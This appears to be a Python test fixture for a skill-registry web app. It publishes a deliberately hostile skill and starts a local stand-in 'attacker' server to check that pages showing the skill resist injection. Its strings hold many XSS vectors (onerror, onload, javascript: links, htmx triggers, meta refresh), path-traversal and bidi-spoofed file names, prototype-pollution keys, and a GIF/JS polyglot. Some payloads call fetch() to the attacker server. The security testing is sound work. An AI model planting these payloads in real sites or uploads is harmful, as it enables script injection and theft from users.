"""A skill whose texts, names and files attack the pages that show it, and a server of the attacker.

If an attack works, `window.__pwned` is set, the title of the page changes, or the server of the attacker gets a
request.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

from tests.conftest import Rpc, Server
from tests.support.browser import Browser, token_of
from tests.support.shown_skill import PNG

IMAGE = "<img src=x onerror=window.__pwned=1>"
HIDDEN = "pay\u202ecod.exe\u200b\u00a0\U000e0041"
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.__pwned=1">
<script>{script}</script><rect width="40" height="40" fill="red"/>
<a href="javascript:window.__pwned=1"><text y="20">svg-text</text></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.__pwned=1"/></body>
</foreignObject>
</svg>"""
HTML = "<!doctype html><html><title>pwned</title><script>{script}</script><body onload='window.__pwned=1'>html-text"
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>pwned</title><script>{script}</script></head></html>'
MARKDOWN = """---
license: "</pre><script>window.__pwned=1</script>"
---
# q

## body

Raw: <script>{script}</script> <img src=x onerror="{script}"> <svg onload="{script}"></svg>
<img srcset="{evil}/srcset 1x, {evil}/srcset2 2x"> <picture><source srcset="{evil}/source"><img src=x></picture>
<video poster="{evil}/poster" src="{evil}/video"></video> <input type=image src={evil}/input>

<style>body {{ display: none; background: url({evil}/css) }}</style>

<base href="{evil}/"> <meta http-equiv="refresh" content="0;url={evil}/refresh"> <link rel=stylesheet href={evil}/sheet>

<form action=/logout method=post><button>free prize</button></form> <iframe srcdoc="<script>{script}</script>"></iframe>

<div hx-get="/logout" hx-trigger="load" data-hx-on:load="{script}" id="q" name="body">htmx-text</div>

[script](javascript:window.__pwned=1) [tab](jav&#x09;ascript:window.__pwned=1)
[spaces](<jav   ascript:window.__pwned=1>) [back](<\\\\\\\\{address}/b>)
[data](data:text/html,<script>window.__pwned=1</script>) [vb](vbscript:x) [host]({host}/host)
[ref] [upper](JAVASCRIPT:window.__pwned=1) <javascript:window.__pwned=1> [nul](java&#0;script:window.__pwned=1)

[ref]: javascript:window.__pwned=1 "title"

[out](../../../logout) [deep](a/../../../../rpc) [logout](/logout) [rpc](/rpc) [encoded](..%2f..%2f..%2flogout)
[double](%2e%2e/%2e%2e/account) [query](SKILL.md?hx-get=/logout) [own](resources/evil.svg) [outside]({evil}/landing)

![remote]({evil}/image.png) ![out](../../../logout) ![mine](resources/evil.svg) ![js](javascript:window.__pwned=1)
![quote](resources/evil.svg "x\\" onerror=\\"window.__pwned=1") [![in link]({evil}/inner.png)]({evil}/landing)

`<img src=x onerror=window.__pwned=1>` and {hidden}

```<script>window.__pwned=1</script>
</code></pre><script>window.__pwned=1</script>
```

| <img src=x onerror=window.__pwned=1> | b |
|---|---:|
| <svg onload=window.__pwned=1> | {hidden} |

The last words.
"""
NAMES = (
    f"code/{IMAGE}.py",
    "resources/q\"uo'te; filename=x.html",
    "resources/..%2f..%2fetc%2fpasswd",
    "resources/\u202egpj.exe",
    f"resources/{'n' * 241}.txt",
    "resources/a b#L1?x=1&y=2",
)


class Attacker:
    """A server of another origin. `asked` has the paths of requests; `pages` are its own pages."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.pages: dict[str, str] = {}
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.asked.append(self.path)
                body = attacker.pages.get(self.path, "<!doctype html><title>landing</title>landing").encode()
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("access-control-allow-origin", "*")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self.http.server_address[1]}"
        self.url = f"http://{self.address}"

    @property
    def hits(self) -> list[str]:
        """The requests that no user wanted."""
        return [path for path in self.asked if path not in {*self.pages, "/landing", "/favicon.ico"}]

    @property
    def script(self) -> str:
        return f"window.__pwned=1;document.title='pwned';fetch('{self.url}/script')"


@contextmanager
def attacker_running() -> Iterator[Attacker]:
    attacker = Attacker()
    thread = threading.Thread(target=attacker.http.serve_forever, daemon=True)
    thread.start()
    yield attacker
    attacker.http.shutdown()
    attacker.http.server_close()
    thread.join(300)


class HostileSkill:
    """Version 1.0.0 is published, 1.1.0 of an agent in review, 1.2.0 rejected, 0.9.0 yanked."""

    def __init__(self, server: Server, namespace: str, attacker: Attacker) -> None:
        self.server = server
        self.attacker = attacker
        self.name = f"{namespace}.evil"
        grants = [f"{namespace}.*"]
        scopes = ("read", "run", "publish", "review")
        self.ann = token_of(server, f"{namespace}-ann", *scopes, namespaces=grants)
        self.bot = token_of(server, f"{namespace}-bot", "read", "publish", namespaces=grants, is_agent=True)
        ann, bot = Rpc(server.url, self.ann), Rpc(server.url, self.bot)
        browser = Browser(server.url)
        assert browser.sign_in(self.ann).status_code == 303
        self._session = browser.cookie()
        self._withdraw(ann, bot)
        self._publish(ann, "1.0.0")
        self._publish(bot, "1.1.0", more=f"New: {IMAGE} {HIDDEN}\n")
        ann("waive_finding", name=self.name, rule="undeclared_package", reason=f"waived {IMAGE} {HIDDEN}")
        ann("deprecate_skill", name=self.name, message=f"deprecated {IMAGE} {HIDDEN}")

    def cookies(self) -> dict[str, Any]:
        """Return the state of a browser of the publisher, who is signed in."""
        cookie = {"name": "skillery", "value": self._session, "domain": "127.0.0.1", "path": "/", "expires": -1}
        return {"cookies": [{**cookie, "httpOnly": True, "secure": False, "sameSite": "Lax"}], "origins": []}

    def at(self, version: str = "1.0.0", *below: str) -> str:
        return "/".join([f"/s/{self.name}@{version}", *(quote(part, safe="/") for part in below)])

    def _withdraw(self, ann: Rpc, bot: Rpc) -> None:
        for rpc, version in ((ann, "0.9.0"), (bot, "1.2.0")):
            manifest = {**self._manifest(version), "kind": "instruction"}
            text = {name: manifest[name] for name in ("name", "version", "kind", "description", "tags", "inputs")}
            rpc("create_skill", manifest=text, skill_md="# q\n")
        ann("yank_version", name=self.name, version="0.9.0", reason=f"yanked {IMAGE}")
        ann("reject_version", name=self.name, version="1.2.0", reason=f"rejected {IMAGE} {HIDDEN}")

    def _publish(self, rpc: Rpc, version: str, more: str = "") -> None:
        rpc("create_skill", manifest=self._manifest(version), skill_md=self._markdown() + more, files=self._files(more))

    def _markdown(self) -> str:
        evil = self.attacker
        return MARKDOWN.format(
            script=evil.script, evil=evil.url, host=f"//{evil.address}", address=evil.address, hidden=HIDDEN
        )

    def _manifest(self, version: str) -> dict[str, Any]:
        hostile = f'"><script>{self.attacker.script}</script>{IMAGE}'
        return {
            "name": self.name,
            "version": version,
            "kind": "action",
            "description": f"description {hostile} {HIDDEN}",
            "tags": [f"tag{IMAGE}"[:60], '" onmouseover="window.__pwned=1'],
            "inputs": {
                "__proto__": {"type": "string", "description": hostile, "default": hostile},
                "constructor": {"type": "string", "enum": [IMAGE, "javascript:x", HIDDEN], "description": HIDDEN},
                f"{IMAGE}": {"type": "any"},
            },
            "runtime": {"language": "python", "entrypoint": "code/main.py"},
            "examples": [{"name": f"example {IMAGE}", "args": {"__proto__": hostile}, "expect": {IMAGE: IMAGE}}],
        }

    def _files(self, more: str) -> list[dict[str, str]]:
        script = self.attacker.script
        main = f"# {HIDDEN} {IMAGE} {more}\ndef main(args):\n    return {{{IMAGE!r}: {IMAGE!r}}}\n".replace(
            more, more[:-1]
        )
        bodies: dict[str, bytes] = {
            "code/main.py": main.encode(),
            "resources/evil.svg": SVG.format(script=script).encode(),
            "resources/evil.html": HTML.format(script=script).encode(),
            "resources/evil.xhtml": XHTML.format(script=script).encode(),
            "resources/bom.md": b"\xef\xbb\xbf" + HTML.format(script=script).encode(),
            "resources/polyglot.gif": b"GIF89a/*" + b"\0" * 6 + b"*/=1;" + script.encode(),
            "resources/evil.js": script.encode(),
            "resources/evil.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
            "resources/dot.png": PNG,
            **dict.fromkeys(NAMES, b"import absent_module_of_this_test\n# named-text\n"),
        }
        return [
            {"path": path, "content": base64.b64encode(body).decode(), "encoding": "base64"}
            for path, body in bodies.items()
        ]
